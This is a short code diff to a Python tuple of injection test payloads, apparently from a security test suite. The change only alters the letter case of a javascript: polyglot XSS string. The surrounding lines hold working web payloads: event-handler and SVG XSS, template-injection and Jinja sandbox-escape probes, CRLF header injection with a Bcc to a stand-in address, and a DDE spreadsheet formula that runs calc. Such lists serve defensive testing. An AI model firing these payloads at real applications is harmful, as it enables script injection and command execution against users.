@@ -58,7 +58,7 @@ PAYLOADS: Final = (
     f"<marquee pwn onstart={RUN}>x</marquee><x pwn onclick={RUN}>x</x>",
     "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {%raw%} {{config}} [[7*7]]",
     "{{''.__class__.__mro__[1].__subclasses__()}}",
-    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror={RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
+    f"JAVASCRIPT:/*-/*`/*\\`/*'/*\"/**/(/* */onerror={RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
     f"\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e",
     f"x\r\nSet-Cookie: pwn=1\r\nBcc: pwn@evil.test\r\n\r\n<script pwn>{RUN}</script>",
     "=cmd|' /C calc'!A0",
